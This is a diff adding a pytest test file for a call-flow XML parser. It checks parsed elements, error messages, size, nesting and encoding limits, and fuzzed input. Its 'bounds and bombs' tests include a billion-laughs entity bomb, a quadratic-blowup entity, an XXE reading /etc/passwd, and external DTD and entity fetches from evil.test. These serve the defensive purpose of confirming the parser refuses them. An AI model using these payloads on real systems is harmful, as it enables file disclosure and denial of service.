@@ -1,0 +1,381 @@
+"""What call-flow documents are read as, which are refused in which words, and that nothing makes `parse` raise."""
+
+from __future__ import annotations
+
+import encodings
+import pkgutil
+import re
+import time
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from callsim.instructions import (
+    MAX_BYTES,
+    Document,
+    Element,
+    Hangup,
+    MultiPartyCall,
+    Play,
+    Record,
+    Redirect,
+    Rejected,
+    Speak,
+    Unknown,
+    Wait,
+    mpc_names,
+    parse,
+    urls,
+)
+
+
+def read(inside: str) -> tuple[Element, ...]:
+    document = parse(f"<Response>{inside}</Response>")
+    assert isinstance(document, Document), document
+    return document.elements
+
+
+def refused(text: str | bytes) -> Rejected:
+    rejected = parse(text)
+    assert isinstance(rejected, Rejected), rejected
+    return rejected
+
+
+# -- what is understood ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("inside", "element"),
+    [
+        ("<Speak>Hello</Speak>", Speak("Hello")),
+        ("<Speak/>", Speak("")),
+        ('<Speak voice="MAN" language="de-DE" loop="0">\n Hello \n</Speak>', Speak("Hello", loop=0)),
+        (
+            "<Speak>Hello <break time='1s'/><emphasis>dear <w>caller</w></emphasis>!</Speak>",
+            Speak("Hello dear caller!"),
+        ),
+        ("<Speak>Tom &amp; <![CDATA[<Jerry>]]> &#233;</Speak>", Speak("Tom & <Jerry> é")),
+        ("<Play>http://app.test/a.mp3</Play>", Play("http://app.test/a.mp3")),
+        ("<Play loop='1000'>\n  http://app.test/a.mp3\n</Play>", Play("http://app.test/a.mp3", loop=1000)),
+        ("<Wait/>", Wait(1000)),
+        ("<Wait length='2'/>", Wait(2000)),
+        ("<Wait length='0'/>", Wait(0)),
+        ("<Wait length='0.5' silence='true' minSilence='100'/>", Wait(500)),
+        ("<Wait length='86400'/>", Wait(86_400_000)),
+        ("<Wait length='0.0004'>what is said here is said to nobody</Wait>", Wait(0)),
+        ("<Record/>", Record(60_000, None, True, "POST")),
+        ("<Record maxLength='5' action='http://a.test/r' method='GET'/>", Record(5000, "http://a.test/r", True, "GET")),
+        ("<Record action=' ' redirect='false' timeout='3' finishOnKey='#'/>", Record(60_000, None, False)),
+        ("<Hangup/>", Hangup("", None)),
+        ("<Hangup reason='rejected'/>", Hangup("rejected")),
+        ("<Hangup reason='busy' schedule='60'/>", Hangup("busy", 60_000)),
+        ("<Hangup schedule='0'/>", Hangup(schedule=0)),
+        ("<Hangup reason='Busy'/>", Hangup("")),
+        ("<Redirect>http://app.test/next</Redirect>", Redirect("http://app.test/next", "POST")),
+        ("<Redirect method='GET'>http://app.test/next</Redirect>", Redirect("http://app.test/next", "GET")),
+        ("<MultiPartyCall>room</MultiPartyCall>", MultiPartyCall("room", "", None, "POST", False)),
+        (
+            "<MultiPartyCall role='Agent' onExitActionUrl='http://a.test/x' onExitActionMethod='GET' stayAlone='true'>"
+            " the room </MultiPartyCall>",
+            MultiPartyCall("the room", "agent", "http://a.test/x", "GET", True),
+        ),
+        ("<MultiPartyCall onExitActionUrl='' stayAlone='false'>room</MultiPartyCall>", MultiPartyCall("room")),
+        ("<Reject/>", Unknown("Reject")),
+        ("<speak>Hello</speak>", Unknown("speak")),
+        ("<Dial callerId='1'><Number>15550100</Number><User>sip:a@b.test</User></Dial>", Unknown("Dial")),
+        ("<Response/>", Unknown("Response")),
+        ("<Wait xmlns='urn:x'/>", Unknown("{urn:x}Wait")),
+        ("<p:Wait xmlns:p='urn:x'/>", Unknown("{urn:x}Wait")),
+        ("<Wait Length='7' xmlns:p='urn:x' p:length='8' xml:lang='en'/>", Wait(1000)),
+    ],
+)
+def test_each_element_is_read_with_its_attributes_and_its_defaults(inside: str, element: Element) -> None:
+    assert read(inside) == (element,)
+
+
+def test_a_response_without_children_is_a_document_without_elements() -> None:
+    assert parse("<Response/>") == Document((), ())
+    assert parse(b"<Response>\n stray text </Response>") == Document((), ())
+
+
+def test_elements_keep_their_order_and_their_lines() -> None:
+    text = """<?xml version="1.0" encoding="utf-8"?>
+    <!-- a comment, and <?an instruction?> -->
+    <Response>
+      <Speak>one
+             two</Speak><Wait
+        length="2"/>
+
+      stray text
+      <?an instruction?>
+      <Hangup/>
+    </Response>
+    """
+    document = parse(text.strip())
+    assert isinstance(document, Document)
+    assert [type(element) for element in document.elements] == [Speak, Wait, Hangup]
+    assert document.lines == (4, 5, 10)
+
+
+def test_urls_and_rooms_of_a_document_are_told_in_order() -> None:
+    document = parse(
+        "<Response><Play>b</Play><MultiPartyCall>2</MultiPartyCall><Redirect>c</Redirect>"
+        "<Play>a</Play><MultiPartyCall>1</MultiPartyCall><Play>b</Play></Response>"
+    )
+    assert isinstance(document, Document)
+    assert urls(document) == ("b", "a", "b")
+    assert mpc_names(document) == ("2", "1")
+    assert urls(Document(())) == mpc_names(Document(())) == ()
+
+
+# -- what is refused ------------------------------------------------------------------------------------------------
+
+SECONDS = "expected seconds from 0 to 86400, such as 2 or 0.5"
+LOOPS = "expected a whole number from 0 (for ever) to 1000"
+
+
+@pytest.mark.parametrize(
+    ("inside", "message"),
+    [
+        ("<Play/>", "Play is empty, expected the URL of an audio file"),
+        ("<Play> \n </Play>", "Play is empty, expected the URL of an audio file"),
+        ("<Redirect></Redirect>", "Redirect is empty, expected the URL of a document"),
+        ("<MultiPartyCall/>", "MultiPartyCall is empty, expected the name of a multiparty call"),
+        ("<Wait length='-1'/>", f"Wait: length is '-1', {SECONDS}"),
+        ("<Wait length=''/>", f"Wait: length is '', {SECONDS}"),
+        ("<Wait length=' 1'/>", f"Wait: length is ' 1', {SECONDS}"),
+        ("<Wait length='1s'/>", f"Wait: length is '1s', {SECONDS}"),
+        ("<Wait length='1e3'/>", f"Wait: length is '1e3', {SECONDS}"),
+        ("<Wait length='nan'/>", f"Wait: length is 'nan', {SECONDS}"),
+        ("<Wait length='٣'/>", f"Wait: length is '٣', {SECONDS}"),
+        ("<Wait length='86400.001'/>", f"Wait: length is '86400.001', {SECONDS}"),
+        (f"<Wait length='{'9' * 5000}'/>", f"Wait: length is '{'9' * 40}...', {SECONDS}"),
+        ("<Wait length='&#10;&#x9b;'/>", rf"Wait: length is '\n\x9b', {SECONDS}"),
+        ("<Record maxLength='long'/>", f"Record: maxLength is 'long', {SECONDS}"),
+        ("<Record redirect='True'/>", "Record: redirect is 'True', expected true or false"),
+        ("<Hangup schedule='soon'/>", f"Hangup: schedule is 'soon', {SECONDS}"),
+        ("<Speak loop='-1'/>", f"Speak: loop is '-1', {LOOPS}"),
+        ("<Speak loop='1.5'/>", f"Speak: loop is '1.5', {LOOPS}"),
+        (f"<Speak loop='{'9' * 5000}'/>", f"Speak: loop is '{'9' * 40}...', {LOOPS}"),
+        ("<Play loop='1001'>a</Play>", f"Play: loop is '1001', {LOOPS}"),
+        (
+            "<MultiPartyCall stayAlone='1'>room</MultiPartyCall>",
+            "MultiPartyCall: stayAlone is '1', expected true or false",
+        ),
+        ("<Wait><Speak>a</Speak></Wait>", "'Speak' is not nestable in Wait"),
+        ("<Play><break/></Play>", "'break' is not nestable in Play"),
+        ("<MultiPartyCall><MultiPartyCall/></MultiPartyCall>", "'MultiPartyCall' is not nestable in MultiPartyCall"),
+    ],
+)
+def test_an_element_that_is_not_of_its_shape_is_refused_in_words_that_teach_it(inside: str, message: str) -> None:
+    rejected = refused(f"<Response>\n {inside}</Response>")
+    assert rejected.message == message
+    assert rejected.line == 2
+    assert not rejected.empty
+
+
+@pytest.mark.parametrize(
+    ("text", "message", "line", "column"),
+    [
+        ("<response/>", "the root is 'response', expected 'Response'", 1, 1),
+        ("\n\n  <html/>", "the root is 'html', expected 'Response'", 3, 3),
+        ("<Response xmlns='urn:x'/>", "the root is '{urn:x}Response', expected 'Response'", 1, 1),
+        ("<Response>\n <Wait>\n  <Wait/></Wait></Response>", "'Wait' is not nestable in Wait", 3, 3),
+        ("<Response>\n <Play>\n\n</Play></Response>", "Play is empty, expected the URL of an audio file", 2, 2),
+        ("<Response>\n<Wait></Response>", "not well-formed XML: mismatched tag", 2, 9),
+        ("<Response>\n", "not well-formed XML: no element found", 2, 1),
+        ("Hello", "not well-formed XML: syntax error", 1, 1),
+        ("<!-- nothing else -->", "not well-formed XML: no element found", 1, 22),
+        ("<Response/>\n<Response/>", "not well-formed XML: junk after document element", 2, 1),
+        ("<Response>\n &nbsp;</Response>", "not well-formed XML: undefined entity", 2, 2),
+        ("<Response><p:Wait/></Response>", "not well-formed XML: unbound prefix", 1, 11),
+        ("<Response><Wait length='1' length='2'/></Response>", "not well-formed XML: duplicate attribute", 1, 28),
+        ("<Response>\0</Response>", "not well-formed XML: not well-formed (invalid token)", 1, 11),
+        (b"<Response>\n\xff</Response>", "not well-formed XML: not well-formed (invalid token)", 2, 1),
+        ("<Response>\nab\ud800</Response>", "half a surrogate pair, expected text that has a UTF-8 form", 2, 3),
+        ("\ud800", "half a surrogate pair, expected text that has a UTF-8 form", 1, 1),
+        ('{"error": "not found"}', "not well-formed XML: not well-formed (invalid token)", 1, 1),
+    ],
+)
+def test_what_is_no_document_is_refused_with_its_place(text: str | bytes, message: str, line: int, column: int) -> None:
+    assert refused(text) == Rejected(message, line, column)
+
+
+@pytest.mark.parametrize("text", ["", " \t\r\n ", b"", b" \t\r\n ", "\ufeff\n", b"\xef\xbb\xbf"])
+def test_a_body_of_nothing_but_white_space_is_told_from_an_invalid_one(text: str | bytes) -> None:
+    assert refused(text) == Rejected("the document is empty, expected a <Response>", empty=True)
+
+
+# -- bounds and bombs -----------------------------------------------------------------------------------------------
+
+
+def nested(depth: int) -> str:
+    below = depth - 2
+    return f"<Response><Speak>{'<s>' * below}deep{'</s>' * below}</Speak></Response>"
+
+
+def padded(size: int) -> bytes:
+    return b"<Response>".ljust(size - len(b"</Response>")) + b"</Response>"
+
+
+def test_a_document_is_read_up_to_its_bounds() -> None:
+    assert parse(nested(32)) == Document((Speak("deep"),), (1,))
+    assert parse("<Response>" + "<Wait/>" * 1999 + "</Response>") == Document((Wait(),) * 1999, (1,) * 1999)
+    assert parse(padded(MAX_BYTES)) == Document(())
+    assert parse(padded(MAX_BYTES).decode()) == Document(())
+
+
+def test_a_document_over_its_bounds_is_refused() -> None:
+    assert refused(nested(33)) == Rejected("elements are nested too deep, expected at most 32 levels", 1, 18 + 30 * 3)
+    rejected = refused("<Response>\n" + "<Wait/>\n" * 2000 + "</Response>")
+    assert rejected == Rejected("too many elements, expected at most 2000", 2001, 1)
+    too_long = Rejected("the document is too long, expected at most 102400 bytes")
+    assert refused(padded(MAX_BYTES + 1)) == too_long
+    assert refused(padded(MAX_BYTES + 1).decode()) == too_long
+    assert refused("€" * (MAX_BYTES // 3 + 1)) == too_long
+    assert refused(" " * 10_000_000) == too_long
+
+
+def test_a_bound_holds_while_parsing_so_that_what_follows_is_never_looked_at() -> None:
+    rejected = refused("<Response>" + "<Dial>" * 15_000 + "<& not XML at all")
+    assert rejected.message == "elements are nested too deep, expected at most 32 levels"
+    rejected = refused("<Response>" + "<Wait/>" * 3_000 + "<& not XML at all")
+    assert rejected.message == "too many elements, expected at most 2000"
+
+
+def test_elements_below_elements_count_as_well() -> None:
+    rejected = refused("<Response><Speak>" + "<s/>" * 1999 + "</Speak></Response>")
+    assert rejected.message == "too many elements, expected at most 2000"
+
+
+BILLION_LAUGHS = (
+    '<!DOCTYPE Response [<!ENTITY a0 "ha">'
+    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 15))
+    + "]><Response><Speak>&a14;</Speak></Response>"
+)
+QUADRATIC = f'<!DOCTYPE Response [<!ENTITY a "{"a" * 40_000}">]><Response><Speak>{"&a;" * 20_000}</Speak></Response>'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        BILLION_LAUGHS,
+        QUADRATIC,
+        "<!DOCTYPE Response><Response/>",
+        '<!DOCTYPE Response SYSTEM "http://evil.test/a.dtd"><Response/>',
+        '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Speak>&x;</Speak></Response>',
+        '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]><Response/>',
+        "<!DOCTYPE Response [<!ATTLIST Wait length CDATA '9'>]><Response><Wait/></Response>",
+    ],
+)
+def test_a_document_type_is_refused_before_it_can_do_anything(text: str) -> None:
+    started = time.perf_counter()
+    for body in (text, text.encode()):
+        rejected = refused(body)
+        assert rejected.message == "a DOCTYPE, which call flows may not have"
+        assert (rejected.line, rejected.column > 0) == (1, True)
+    assert time.perf_counter() - started < 1
+
+
+# -- encodings ------------------------------------------------------------------------------------------------------
+
+GREETING = Document((Speak("Grüße"),), (2,))
+
+
+def greeting(declared: str) -> str:
+    return f'<?xml version="1.0" encoding="{declared}"?>\n<Response><Speak>Grüße</Speak></Response>'
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        greeting("utf-8").encode(),
+        greeting("UTF-8").encode("utf-8-sig"),
+        greeting("ISO-8859-1").encode("iso-8859-1"),
+        greeting("utf-16").encode("utf-16"),
+        greeting("utf-16le").encode("utf-16-le"),
+        greeting("utf-16be").encode("utf-16-be"),
+        b'<?xml version="1.0"?>\n' + "<Response><Speak>Grüße</Speak></Response>".encode(),
+        "\n<Response><Speak>Grüße</Speak></Response>".encode("utf-16"),
+    ],
+)
+def test_bytes_are_read_in_the_encoding_they_declare(body: bytes) -> None:
+    assert parse(body) == GREETING
+
+
+@pytest.mark.parametrize("declared", ["utf-8", "utf-16", "iso-8859-1", "no-such-encoding"])
+def test_the_encoding_a_text_declares_is_ignored_because_it_is_decoded_already(declared: str) -> None:
+    assert parse(greeting(declared)) == GREETING
+    assert parse("\ufeff" + greeting(declared)) == GREETING
+
+
+def test_an_encoding_beyond_those_of_xml_itself_is_refused_by_name() -> None:
+    expected = "expected one of UTF-8, UTF-16, UTF-16BE, UTF-16LE, US-ASCII, ISO-8859-1"
+    assert refused(greeting("utf-7").encode("utf-7")) == Rejected(f"the encoding is 'utf-7', {expected}", 1, 1)
+
+
+@pytest.mark.parametrize("codec", sorted(module.name for module in pkgutil.iter_modules(encodings.__path__)))
+def test_no_codec_of_python_makes_parse_raise_whatever_bytes_it_claims(codec: str) -> None:
+    for name in (codec, codec.replace("_", "-")):
+        text = greeting(name)
+        for body in (text.encode(), text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-32")):
+            assert isinstance(parse(body), Document | Rejected)
+
+
+@pytest.mark.parametrize("codec", ["utf-32", "utf-32-be", "cp037"])
+def test_bytes_in_an_undeclared_foreign_encoding_are_refused(codec: str) -> None:
+    assert refused("<Response/>".encode(codec)).message.startswith("not well-formed XML: ")
+
+
+# -- whatever comes -------------------------------------------------------------------------------------------------
+
+TAGS = ["Response", "Speak", "Play", "Redirect", "MultiPartyCall", "Reject", "p:Wait"]
+ATTRIBUTES = [
+    "",
+    " ",
+    "loop='0'",
+    "loop='x'",
+    "stayAlone='yes'",
+    "xmlns='u'",
+    "xmlns:p='u'",
+    "method='&a;'",
+    "a='<'",
+    "a=",
+]
+LEAVES = ["<Wait/>", "<Wait length='1'/>", "<Record redirect='no'/>", "<Hangup schedule='5'/>", "<Hangup reason='x"]
+MARKUP = ["<!DOCTYPE ", "<!ENTITY ", "<![CDATA[", "]]>", "<!--", "-->", "<?pi ", "?>", "<", ">", "&", "&amp;", "&a;"]
+DECLARATIONS = [f"<?xml version='1.0' encoding='{name}'?>" for name in ("utf-8", "utf-16", "hex", "unicode_escape")]
+CHARACTERS = ["text", " ", "\n", "&#0;", "&#xD800;", "\ud800", "\0", "\ufeff", "\x85", "\U0001f600"]
+PIECES = st.one_of(
+    st.tuples(st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)).map(lambda tag: f"<{tag[0]} {tag[1]}>"),
+    st.sampled_from(TAGS).map(lambda name: f"</{name}>"),
+    st.sampled_from(LEAVES + MARKUP + DECLARATIONS + CHARACTERS),
+)
+SOUP = st.lists(PIECES, max_size=30).map("".join)
+BROTH = SOUP.map(lambda soup: f"<Response>{soup}</Response>")
+JUNK = st.one_of(
+    st.text(),
+    st.binary(),
+    SOUP,
+    BROTH,
+    BROTH.map(lambda soup: soup.encode("utf-8", "surrogatepass")),
+    BROTH.map(lambda soup: soup.encode("utf-16", "surrogatepass")),
+)
+
+
+@given(JUNK)
+@example(BILLION_LAUGHS)
+@example(b"\x00" * 1000)
+@example(b"\xff\xfe")
+@example(b"\xfe\xff\x00")
+def test_whatever_is_read_gives_a_document_or_a_refusal_with_a_place(text: str | bytes) -> None:
+    answer = parse(text)
+    assert answer == parse(text)
+    if isinstance(answer, Document):
+        assert len(answer.lines) == len(answer.elements)
+        assert list(answer.lines) == sorted(answer.lines)
+    else:
+        assert answer.message
+        assert re.fullmatch(r"[^\x00-\x1f\x7f-\x9f\ud800-\udfff]*", answer.message)
+        assert (answer.line > 0) == (answer.column > 0) == (not answer.empty)
